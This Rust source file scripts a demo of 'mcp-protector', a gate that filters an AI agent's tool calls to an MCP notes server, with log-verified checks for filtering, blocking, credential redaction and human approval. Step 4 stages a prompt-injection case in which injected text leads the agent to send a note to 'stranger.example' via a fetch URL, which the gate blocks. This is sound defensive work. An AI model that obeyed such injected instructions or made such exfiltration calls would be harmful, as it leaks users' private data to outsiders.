//! The steps of the demo.

use std::path::Path;

use super::failure::DemoFailure;
use super::page::DemoPage;
use super::scene::DemoScene;
use super::server::{BACKUP, PASSWORD};

const INTRODUCTION: &str = "An agent, a gate and a server, on this machine and over stdio. The \
    agent is a script. The gate is this program, started as `mcp-protector proxy`. The server keeps \
    notes. The gate's decisions come from its audit log, and the server's part from its own log. The \
    demo checks each statement against both.";

const INITIALIZE: &str = r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{"elicitation":{}},"clientInfo":{"name":"demo","version":"1.0.0"}}}"#;
const INITIALIZED: &str = r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#;

/// A line of the README, which a test runs.
const NEXT: &str = "mcp-protector proxy --allow read_file,list_directory -- npx -y @modelcontextprotocol/server-filesystem /srv/data";

/// Plays all steps.
pub(super) fn play(page: &mut DemoPage<'_>, directory: &Path) -> Result<(), DemoFailure> {
    page.heading("mcp-protector: the gate at work")?;
    page.paragraph(INTRODUCTION)?;
    page.line("  agent  ⇄  mcp-protector proxy --config gate.toml  ⇄  notes-server")?;
    let mut scene = DemoScene::open(page, directory)?;
    start(&mut scene)?;
    list(&mut scene)?;
    allowed_call(&mut scene)?;
    denied_argument(&mut scene)?;
    redaction(&mut scene)?;
    consent(&mut scene)?;
    audit(&mut scene)?;
    drop(scene);
    page.heading("Before a server of your own")?;
    page.paragraph(
        "The gate stands before the server's own command, with the tools that it permits:",
    )?;
    page.line(&format!("{NEXT}\n"))?;
    page.paragraph(
        "`--config gate.toml` reads the same from a file, and Cedar policies beside it. Read on in \
         README.md and docs/policy-guide.md.",
    )
}

fn start(scene: &mut DemoScene<'_, '_>) -> Result<(), DemoFailure> {
    scene.page.heading("1. The agent starts a session")?;
    let traces = scene.ask(INITIALIZE, &[INITIALIZED])?;
    let record = traces.record("request")?;
    scene.show_decision(&record)?;
    scene.show_messages(&traces)?;
    let sent = [INITIALIZE, INITIALIZED];
    scene.check(
        "the server receives the agent's own bytes",
        &sent,
        &traces.received,
    )?;
    let name = traces.answer.text("/result/serverInfo/name");
    scene.check("the notes server answers", &["notes-server"], &[name])?;
    let revision = scene.policies.revision().as_str().to_owned();
    let statement = "the gate decides by the policies that the demo shows";
    scene.check(statement, &[&revision], &[record.text("/revision")])
}

fn list(scene: &mut DemoScene<'_, '_>) -> Result<(), DemoFailure> {
    scene
        .page
        .heading("2. The gate filters the list of tools")?;
    let traces = scene.ask(r#"{"jsonrpc":"2.0","id":2,"method":"tools/list"}"#, &[])?;
    scene.show_decision(&traces.record("tools_list")?)?;
    let hidden = traces.record("gate_decision")?.texts("/edits", "/reason");
    scene.page.row("gate hid", &hidden.join(", "))?;
    let names = traces.answer.texts("/result/tools", "/name");
    scene
        .page
        .row("agent got", &format!("four tools: {}", names.join(", ")))?;
    let permitted = ["read_note", "write_note", "delete_note", "fetch"];
    scene.check(
        "the agent sees the tools that a policy permits",
        &permitted,
        &names,
    )?;
    let hidden: Vec<String> = hidden
        .iter()
        .map(|it| it.chars().take(14).collect())
        .collect();
    let statement = "the log names the tool that no policy permits";
    scene.check(statement, &["`export_notes`"], &hidden)
}

fn allowed_call(scene: &mut DemoScene<'_, '_>) -> Result<(), DemoFailure> {
    scene
        .page
        .heading("3. The gate forwards a call that a policy permits")?;
    let params = r#"{"name":"read_note","arguments":{"name":"welcome"}}"#;
    let traces = scene.ask(&call(3, params), &[])?;
    scene.show_decision(&traces.record("tool_call")?)?;
    scene.show_messages(&traces)?;
    let decisions = ["tool_call ALLOW", "tool_result ALLOW"];
    scene.check(
        "the call and its result have a record each",
        &decisions,
        &traces.decisions(),
    )?;
    scene.check(
        "the server receives the call as it is",
        &[params],
        &traces.received_params()?,
    )?;
    let note = traces.answer.texts("/result/content", "/text");
    scene.check(
        "the agent gets the note",
        &["Remember to water the plants."],
        &note,
    )
}

fn denied_argument(scene: &mut DemoScene<'_, '_>) -> Result<(), DemoFailure> {
    scene
        .page
        .heading("4. The gate rejects a call because of an argument")?;
    scene
        .page
        .paragraph("A text that the agent has read instructs it to send the note to a stranger.")?;
    let params =
        r#"{"name":"fetch","arguments":{"url":"https://stranger.example/?note=Remember"}}"#;
    let traces = scene.ask(&call(4, params), &[])?;
    let record = traces.record("tool_call")?;
    scene.show_decision(&record)?;
    scene.show_messages(&traces)?;
    scene.check(
        "the call has one record",
        &["tool_call BLOCK"],
        &traces.decisions(),
    )?;
    let policies = record.texts("/policies", "");
    scene.check("this policy rejects it", &["fetch-only-example"], &policies)?;
    scene.check("the server receives nothing", &[], &traces.received)?;
    let error = ["/code", "/data/code", "/data/advice", "/data/audit"];
    let error = error.map(|member| traces.answer.text(&format!("/error{member}")));
    scene.check(
        "the agent gets the code and the advice of the policy, and the name of the record",
        &[
            "4030",
            "page_not_allowed",
            "fetch pages below https://example.com/",
            &record.text("/reference"),
        ],
        &error,
    )
}

fn redaction(scene: &mut DemoScene<'_, '_>) -> Result<(), DemoFailure> {
    scene
        .page
        .heading("5. The gate takes a credential out of a result")?;
    scene.page.row("the note", BACKUP)?;
    let params = r#"{"name":"read_note","arguments":{"name":"backup"}}"#;
    let traces = scene.ask(&call(5, params), &[])?;
    scene.show_decision(&traces.record("tool_call")?)?;
    scene.show_messages(&traces)?;
    let note = traces.answer.texts("/result/content", "/text");
    let redacted = BACKUP.replace(PASSWORD, "[redacted:postgres-url]");
    scene.check(
        "the agent gets the note without the password",
        &[&redacted],
        &note,
    )?;
    let rules = traces.record("tool_result")?.texts("/redactions", "");
    scene.check("the log names the rule", &["postgres-url"], &rules)
}

fn consent(scene: &mut DemoScene<'_, '_>) -> Result<(), DemoFailure> {
    scene
        .page
        .heading("6. The gate asks a person before a deletion")?;
    scene.show_policy("delete-after-approval")?;
    let params = r#"{"name":"delete_note","arguments":{"name":"backup"}}"#;
    let traces = scene.ask(&call(6, params), &[])?;
    scene.show_decision(&traces.record("tool_call")?)?;
    scene.show_messages(&traces)?;
    let asked = traces.record("consent")?;
    let policies = asked.texts("/policies", "");
    scene.check(
        "this policy requires the approval",
        &["delete-after-approval"],
        &policies,
    )?;
    let named =
        |question: &&String| question.contains("delete_note") && question.contains("backup");
    let questions = scene.questions.iter().filter(named).count();
    scene.check(
        "the question names the tool and the note",
        &["1"],
        &[questions.to_string()],
    )?;
    scene.check(
        "the server receives the approved call",
        &[params],
        &traces.received_params()?,
    )?;
    let deleted = traces.answer.texts("/result/content", "/text");
    scene.check("the server deletes the note", &["deleted"], &deleted)
}

fn audit(scene: &mut DemoScene<'_, '_>) -> Result<(), DemoFailure> {
    scene.page.heading("7. The audit log has all of it")?;
    let (last, status) = scene.close()?;
    scene.check("the gate sends nothing after the session", &[], &last)?;
    let code = status
        .code()
        .map_or_else(|| status.to_string(), |code| code.to_string());
    scene.check("the gate exits with 0", &["0"], &[code])?;
    let records = scene.logs.records()?;
    let mut calls = Vec::new();
    for record in &records {
        let kind = record.text("/kind");
        if matches!(kind.as_str(), "tool_call" | "tool_result" | "consent") {
            let outcome = record.text("/decision") + &record.text("/event");
            let policies = record.texts("/policies", "").join(", ");
            let tool = record.text("/target");
            let row = format!("{kind:<11} {outcome:<17} {tool:<11} {policies}");
            scene
                .page
                .row(&format!("record {}", record.text("/seq")), &row)?;
            calls.push(format!("{kind} {outcome} {tool}"));
        }
    }
    let expected = [
        "tool_call ALLOW read_note",
        "tool_result ALLOW read_note",
        "tool_call BLOCK fetch",
        "tool_call ALLOW read_note",
        "tool_result ALLOW read_note",
        "consent consent_requested delete_note",
        "consent consent_granted delete_note",
        "tool_call ALLOW delete_note",
        "tool_result ALLOW delete_note",
    ];
    scene.check(
        "each call has its records, and no other call has one",
        &expected,
        &calls,
    )?;
    let ends = [records.first(), records.last()];
    let ends = ends.map(|it| it.map_or_else(String::new, |record| record.text("/kind")));
    let statement = "the log begins and ends with the gate";
    scene.check(statement, &["startup", "shutdown"], &ends)?;
    let (records, checks) = (records.len(), scene.checks);
    scene.page.line(&format!(
        "\n{records} records, {checks} statements checked: all are true."
    ))
}

/// A `tools/call` request.
fn call(id: u32, params: &str) -> String {
    format!(r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/call","params":{params}}}"#)
}
